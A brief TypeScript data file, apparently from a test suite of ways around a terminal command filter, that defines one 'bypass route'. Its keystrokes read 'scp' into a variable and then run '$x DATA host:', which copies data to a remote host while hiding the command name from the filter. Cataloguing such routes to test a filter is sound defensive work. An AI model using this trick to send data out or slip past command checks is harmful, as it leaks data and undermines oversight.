import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by reading a variable',
  source: 'thought of with the keys of the line editor',
  keys: ['read -r x\r', 'scp\r', '$x DATA host:\r'],
};
